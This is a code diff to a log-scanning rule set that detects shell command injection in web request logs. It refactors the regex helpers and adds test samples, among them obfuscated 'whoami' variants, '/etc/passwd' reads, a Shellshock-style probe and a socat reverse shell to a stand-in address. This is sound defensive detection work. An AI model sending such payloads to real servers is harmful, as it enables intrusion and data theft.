@@ -2,19 +2,28 @@
 
 from __future__ import annotations
 
-import re
-
 from lwsyslog.events import Event
 from lwsyslog.matching.fold import fold
 from lwsyslog.matching.linear import Regex, linear_search
 from lwsyslog.normalize import EventView
 from lwsyslog.rules.base import ACCESS, BOTH, PAYLOAD_FIELDS, PatternRule, RuleMatch
+from lwsyslog.rules.command_shapes import (
+    ARGUMENT,
+    CHAIN,
+    CLOSED,
+    END,
+    GLOB,
+    QUOTE_SPLIT,
+    RUN_FILE,
+    SHORT_SPLIT,
+    STRONG_COMMANDS,
+    command,
+    joined,
+)
 from lwsyslog.rules.samples import AccessSample, ErrorSample
 from lwsyslog.severity import Severity
 
 __all__ = [
-    "COMMAND_WORDS",
-    "STRONG_COMMANDS",
     "CommandArgv",
     "CommandDownloadExec",
     "CommandQuotedName",
@@ -22,62 +31,12 @@ __all__ = [
     "CommandShellChain",
 ]
 
-COMMAND_WORDS = (
-    r"(?:id|uname|whoami|cat|ls|pwd|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|ping|nslookup|dig"
-    r"|sleep|echo|chmod|rm|python[23]?|perl|php|ruby|busybox|tftp|telnet|ifconfig|ipconfig"
-    r"|hostname|net\s+(?:user|localgroup|view|use)|powershell|systeminfo|env|printenv|uptime|ps"
-    r"|sudo|nohup|tasklist|netstat|ver|tracert|traceroute|wmic|certutil|bitsadmin|mshta"
-    r"|rundll32|cscript|crontab|ssh|scp|killall|cmd(?:\.exe)?)"
-)
-# After a lone "&" (also how a browser joins parameters) only words that are no English.
-STRONG_COMMANDS = (
-    r"(?:id|uname|whoami|ping|nslookup|wget|curl|netstat|ipconfig|ifconfig|systeminfo"
-    r"|powershell|tasklist|cmd(?:\.exe)?|dir\s+[a-z]:|net\s+(?:user|view|localgroup|share)"
-    r"|netsh|sleep\s+\d{1,3}\b|type\s+(?:%[a-z_]+%|[a-z]:)|(?:/(?:usr/)?s?bin/)\w)"
-)
-# What may follow a command word: the end of the value, white space, a separator, a quote,
-# a shell comment ("#" ends the command line: ``;id%23``).
-_END = r"\s;|&`)<>'\"$#"
-# "dir" counts only when a separator, a switch or a drive comes next ("dir /s", "dir c:"),
-# not before a word ("dir straits").
-_DIR_NEXT = r"(?:$|[;|&`]|/[a-z]|[a-z]:)"
-
-
-def _command(prefix: str, end: str, groups: tuple[str, str]) -> str:
-    """``prefix`` and a command word, reported as one of ``groups`` (the second for ``dir``);
-    the character after the word (one of ``end``, when the text does not end there) is
-    matched but not reported: what a look-ahead checked, which RE2 does not have."""
-    space = r"[\s+]" if "+" in end else r"\s"
-    return (
-        rf"(?P<{groups[0]}>{prefix}{COMMAND_WORDS})(?:$|[{end}])"
-        rf"|(?P<{groups[1]}>{prefix}dir)(?:$|[;|&`]|{space}[\s+]*{_DIR_NEXT})"
-    )
-
-
-# Command names as a shell reads them through quotes that split them (``c'a't``,
-# ``who'am'i``, ``c"a"t``: the quotes vanish). Names of three letters or more: an apostrophe
-# in a shorter word is English ("i'd").
-_QUOTE_SPLIT = "|".join(
-    "['\"]{0,2}".join(re.escape(letter) for letter in name)
-    for name in (
-        "cat", "whoami", "uname", "wget", "curl", "bash", "ping", "sleep", "echo", "nslookup",
-        "ifconfig", "ipconfig", "netstat", "python", "perl", "chmod", "busybox", "hostname",
-    )
-)  # fmt: skip
-# Two-letter names split by a pair of quotes, as a shell accepts them (``i'd'``, ``'l's``,
-# ``p"s"``): one apostrophe alone is unbalanced, no command, and English ("i'd").
-_SHORT_SPLIT = "|".join(
-    f"{q}{a}{q}{b}|{a}{q}{b}{q}"
-    for a, b in ("id", "ls", "ps", "nc", "sh", "rm")
-    for q in ("'", '"')
-)
-
 # A command substitution, ``$(...)`` or backticks, run by a shell that reads the field: all
 # the rule looks for in a User-Agent, a Cookie or another header, where ";" and "|" are
 # ordinary text (``Mozilla/5.0 (X11; Linux x86_64)``).
 _SUBSTITUTION = linear_search(
     Regex(
-        _command(r"(?:`|\$\()[\s+]*(?:/?(?:usr/)?s?bin/)?", "+" + _END, ("frag", "frag1"))
+        command(r"(?:`|\$\()[\s+]*(?:/?(?:usr/)?s?bin/)?", "+" + END, ("frag", "frag1"))
         + r"|(?:`|\$\()\s*(?:true|false)\s*[`)]"
     )
 )
@@ -109,7 +68,15 @@ class CommandShellChain(PatternRule):
 
     A field holding a backslash is also read as a shell reads it, the backslash before a
     letter dropped (``;w\\hoami`` runs ``whoami``, ``;i\\d`` runs ``id``): decoding reads a
-    backslash as ``/`` (``;w/hoami``), for the path rules.
+    backslash as ``/`` (``;w/hoami``), for the path rules. A field holding an empty expansion
+    is also read without it (``;wh$@oami``, ``;who$()ami``: :func:`.command_shapes.joined`).
+
+    After ``;``, ``|`` or a line break, which ordinary text also writes ("dogs; cat food",
+    a page title "Pet Shop | Echo Dot", a textarea's "id like to ask"), a command word counts
+    closing the value or with arguments shaped like a command's (an option, a path, a file,
+    a number); after a space there, a word that is also English (cat, echo, sleep) needs the
+    arguments. A backtick counts where a value starts or after a separator, not where it
+    quotes an SQL identifier (``ORDER BY `orders`.`id```).
     """
 
     id = "command-injection-chain"
@@ -124,15 +91,17 @@ class CommandShellChain(PatternRule):
     # Also the shell's own obfuscations: ${IFS} for a space, quotes splitting a command name
     # (c''at, c'a't), and ?-globs standing for one (/???/c?t).
     pattern = Regex(
-        _command(r"(?:[;|`\n]|&&|\$\()[\s+]*(?:/?(?:usr/)?s?bin/)?", "+" + _END, ("frag", "frag1"))
-        + rf"|(?P<frag2>&\s+{STRONG_COMMANDS})(?:$|[{_END}])"
+        CHAIN + rf"|(?P<frag2>&\s+{STRONG_COMMANDS})(?:$|[{END}])"
         r"|(?:`|\$\()\s*(?:true|false)\s*[`)]"
         rf"|(?P<frag3>=\s*(?:/(?:usr/)?s?bin/)?{STRONG_COMMANDS}\s*[;|]+\s*)(?:$|&)"
         r"|\$\{?ifs\b|(?:[;|`\n]|&&|\$\()\s*[a-z]{1,10}(?:''|\"\")[a-z]"
-        rf"|(?P<frag5>(?:[;|`\n]|&&|\$\()[\s+]*(?:{_QUOTE_SPLIT}|{_SHORT_SPLIT}))(?:$|[+{_END}])"
+        rf"|(?P<frag5>(?:[;|`\n]|&&|\$\()[\s+]*(?:{QUOTE_SPLIT}|{SHORT_SPLIT}))"
+        rf"(?:{CLOSED}|{ARGUMENT})"
         r"|/\?{3}/[\w?]{0,10}\?"
-        r"|(?P<frag4>;\s*\$[a-z_]\w*)\s*(?:$|[;|&`])"
-        rf"|\{{(?:{STRONG_COMMANDS}|cat|wget|curl|nc|ncat|bash|sh|ls|chmod|perl|python),"
+        r"|(?P<frag4>;\s*\$[a-z_]\w*(?:\$[a-z_]\w*|\$\{\w+\})*)\s*(?:$|[;|&`])"
+        + GLOB
+        + RUN_FILE
+        + rf"|\{{(?:{STRONG_COMMANDS}|cat|wget|curl|nc|ncat|bash|sh|ls|chmod|perl|python),"
         r"(?:/|[a-z]{2,8}://|-|\+x)"
     )
     gate = ";|`\n$&"
@@ -173,6 +142,44 @@ class CommandShellChain(PatternRule):
         AccessSample(target="/ping.php?ip=127.0.0.1;i\\d"),
         AccessSample(target="/ping.php?ip=127.0.0.1%7Cc%5Ca%5Ct%20/etc/passwd"),
         AccessSample(target="/", user_agent="$(w\\hoami)"),
+        # A command with the arguments that make it one, after a separator and a space.
+        AccessSample(target="/ping.php?ip=127.0.0.1%7C%20nc%201.2.3.4%204444"),
+        AccessSample(target="/ping.php?ip=127.0.0.1;%20sleep%205"),
+        AccessSample(target="/ping.php?ip=127.0.0.1%20|%20whoami"),
+        AccessSample(target="/ping.php?ip=127.0.0.1;curl%20http://198.51.100.9/"),
+        AccessSample(target="/ping.php?ip=127.0.0.1%0Aid"),
+        # Globs, empty expansions and a backslash-newline inside the name; a subshell; a
+        # command built from variables (all run by dash, what PHP's system() calls).
+        AccessSample(target="/ping.php?ip=127.0.0.1;/bin/wh?ami"),
+        AccessSample(target="/ping.php?ip=127.0.0.1;/usr/bin/who*i"),
+        AccessSample(target="/ping.php?ip=127.0.0.1;who$()ami"),
+        AccessSample(target="/ping.php?ip=127.0.0.1;wh$@oami"),
+        AccessSample(target="/ping.php?ip=127.0.0.1;w$%7Bx%7Dhoami"),
+        AccessSample(target="/ping.php?ip=127.0.0.1|c$@at%20index.php"),
+        AccessSample(target="/ping.php?ip=127.0.0.1;w%5C%0Ahoami"),
+        AccessSample(target="/ping.php?ip=127.0.0.1;$(printf%20id)"),
+        AccessSample(target="/ping.php?ip=127.0.0.1;(id)"),
+        AccessSample(target="/ping.php?ip=127.0.0.1;a=wh;b=oami;$a$b"),
+        # More readers and tools, and files run by their path.
+        AccessSample(target="/ping.php?ip=127.0.0.1;tac%20index.php"),
+        AccessSample(target="/ping.php?ip=127.0.0.1;head%20-c%20999%20config.php"),
+        AccessSample(target="/ping.php?ip=127.0.0.1;socat%20tcp:1.2.3.4:4444%20exec:bash"),
+        AccessSample(target="/ping.php?ip=127.0.0.1;awk%20'%7Bprint%7D'%20/etc/passwd"),
+        AccessSample(target="/ping.php?ip=127.0.0.1;find%20/%20-name%20x"),
+        AccessSample(target="/ping.php?ip=127.0.0.1;./x.sh"),
+        AccessSample(target="/ping.php?ip=127.0.0.1;/tmp/x"),
+        AccessSample(target="/ping.php?ip=127.0.0.1;.%20/tmp/x"),
+        # A backtick substitution where a value starts or after a separator.
+        AccessSample(target="/ping.php?ip=;%60id%60"),
+        AccessSample(target="/cgi-bin/echo?name=a%60sleep+60%60"),
+        AccessSample(target="/cgi-bin/x?q=()%20%7B%20:;%7D;%20echo%20vulnerable"),
+        # Error lines quoting an injected request.
+        ErrorSample(message="AH00126: Invalid URI in request GET /ping.php?ip=1;id HTTP/1.1"),
+        ErrorSample(
+            message='ModSecurity: Access denied with code 403 (phase 2). [data "Matched Data: '
+            ';cat /etc/passwd found within ARGS:ip: 127.0.0.1;cat /etc/passwd"]',
+            module="security2",
+        ),
     )
     must_not_match = (
         AccessSample(target="/shop;jsessionid=0AB12CD34?cat=shoes"),
@@ -199,13 +206,65 @@ class CommandShellChain(PatternRule):
         AccessSample(target="/files?list=C:%5Cdata;D:%5Cid%5Cnew"),
         AccessSample(target="/search?q=tom;%5Cn+cat+pictures"),
         AccessSample(target="/", user_agent="Mozilla/5.0 (Windows; U; x\\id)"),
+        # Search text and page titles: a command word followed by an ordinary word.
+        AccessSample(target="/search?q=dogs;+cat+food"),
+        AccessSample(target="/search?q=ping+pong;+echo+chamber"),
+        AccessSample(target="/search?q=tips;+sleep+better"),
+        AccessSample(target="/search?q=tips;+sleep+8+hours"),
+        AccessSample(target="/search?q=news;+curl+up+with+a+book"),
+        AccessSample(target="/search?q=brooklyn+%7C+ping+pong+bar"),
+        AccessSample(target="/search?q=fish+%26+chips;+id+badge"),
+        AccessSample(target="/search?q=dogs;+cat+food."),
+        AccessSample(target="/matomo.php?action_name=Pet%20Shop%20|%20Cat%20Food&idsite=1"),
+        AccessSample(target="/matomo.php?action_name=Pet%20Shop%20|%20Sleep%20Better"),
+        AccessSample(target="/matomo.php?action_name=Pet%20Shop%20|%20Ping%20Test"),
+        AccessSample(target="/matomo.php?action_name=Pet%20Shop%20|%20Id%20card"),
+        AccessSample(target="/matomo.php?action_name=Pet%20Shop%20|%20Echo%20Dot"),
+        AccessSample(target="/matomo.php?action_name=Pet%20Shop%20|%20Curl%20cream"),
+        AccessSample(target="/matomo.php?action_name=Pet%20Shop%20|%20Bash%20party"),
+        AccessSample(target="/matomo.php?action_name=Art%20|%20Nc%20Wyeth&idsite=1"),
+        AccessSample(target="/matomo.php?action_name=dog%20|%20cat&idsite=1"),
+        AccessSample(target="/matomo.php?action_name=Shop%20|%20Cat%20$5%20deal"),
+        AccessSample(target="/matomo.php?action_name=Shop%20|%20Cat%20(2024)"),
+        AccessSample(target="/contact?msg=Hello%0D%0Aid+like+to+ask+about+pricing"),
+        AccessSample(target="/contact?msg=Thanks!%0D%0AEcho+Park+office"),
+        AccessSample(target="/contact?msg=Hi%0D%0Ahead+office+is+closed"),
+        AccessSample(target="/search?q=ps+aux+%7C+grep+nginx"),
+        # SQL identifiers in backticks (phpMyAdmin's own sort link).
+        AccessSample(
+            target="/phpmyadmin/sql.php?sql_query=SELECT+%2A+FROM+%60orders%60+%0AORDER+BY+"
+            "%60orders%60.%60id%60+DESC"
+        ),
+        AccessSample(target="/pma/sql.php?sql_query=SELECT+%60id%60,+%60ls%60+FROM+%60t%60"),
+        AccessSample(target="/pma/sql.php?sql_query=SELECT+COUNT(%60id%60)+FROM+%60t%60"),
+        # Near misses of the globs, expansions and files run by path.
+        AccessSample(target="/files?list=/usr/bin/*"),
+        AccessSample(target="/search?q=dot;.net+core"),
+        AccessSample(target="/api?paths=/tmp/a.txt;/tmp/b.txt"),
+        AccessSample(target="/search?q=price;us$@home"),
+        AccessSample(target="/tpl?s=hello;$%7Bname%7D+world"),
+        AccessSample(target="/search?q=tom;(cat+lovers)"),
+        AccessSample(target="/paste?code=int+f()+%7B+x;+%7D;+echo+chamber"),
+        # PHP-FPM joins several PHP messages with "; PHP message:".
+        ErrorSample(
+            message="Got error 'PHP message: PHP Deprecated: foo() is deprecated in "
+            '/var/www/x.php on line 40; PHP message: PHP Warning: Undefined array key "a" '
+            "in /var/www/y.php on line 12'",
+            code="AH01071",
+            module="proxy_fcgi",
+        ),
     )
 
     def match_field(self, field: str, text: str) -> str | None:
-        """The match in ``text``; in a header field only a command substitution."""
-        if field in _HEADER_FIELDS:
-            return _SUBSTITUTION.search(text)
-        return self.linear.search(text)
+        """The match in ``text``, else in ``text`` as a shell joins it (:func:`joined`); in a
+        header field only a command substitution."""
+        search = _SUBSTITUTION.search if field in _HEADER_FIELDS else self.linear.search
+        fragment = search(text)
+        if fragment is None and ("$" in text or "/\n" in text):
+            read = joined(text)
+            if read != text:
+                fragment = search(read)
+        return fragment
 
     def evaluate(self, event: Event, view: EventView) -> RuleMatch | None:
         """The match in the decoded fields, else in the fields holding a backslash as a
@@ -303,14 +362,12 @@ class CommandArgv(PatternRule):
         r"|\bnetsh(?:\.exe)?[\s+]+(?:firewall|advfirewall|interface|wlan|winhttp)\b"
         r"|\bnslookup[\s+]+(?:-\S+[\s+]+)*[\w-]+(?:\.[\w-]+)+"
         r"|\btimeout(?:\.exe)?[\s+]+/t[\s+]*\d|"
-        + _command(
-            r"(?:^|[=\s;|&`'\"(])/?(?:usr/(?:local/)?)?s?bin/", "+" + _END, ("frag1", "frag2")
-        )
+        + command(r"(?:^|[=\s;|&`'\"(])/?(?:usr/(?:local/)?)?s?bin/", "+" + END, ("frag1", "frag2"))
         + "|"
-        + _command(
+        + command(
             r"\b(?:system|exec|shell_exec|passthru|popen|proc_open|eval)\s*\(\s*['\"`]\s*"
             r"(?:/(?:usr/)?s?bin/)?",
-            _END,
+            END,
             ("frag3", "frag4"),
         )
     )
